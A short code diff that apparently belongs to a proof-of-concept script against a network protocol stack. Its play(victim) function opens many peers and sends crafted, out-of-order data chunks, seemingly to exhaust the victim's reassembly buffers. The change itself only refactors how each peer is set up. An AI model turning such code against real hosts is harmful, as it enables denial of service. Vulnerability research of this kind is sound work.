@@ -11,7 +11,7 @@ PIECES = 16 * 1024 * 1024 // 1400
 def play(victim):
     peer = Peer()
     for n in range(COUNT):
-        peer.port, peer.tag = 1024 + n, 1 + n
+        peer.become(n)
         peer.connect()
         peer.send(data(peer.first, b"x" * 1000, flags=2))
         peer.send(data(peer.first + 65_534, b"x", ssn=1))
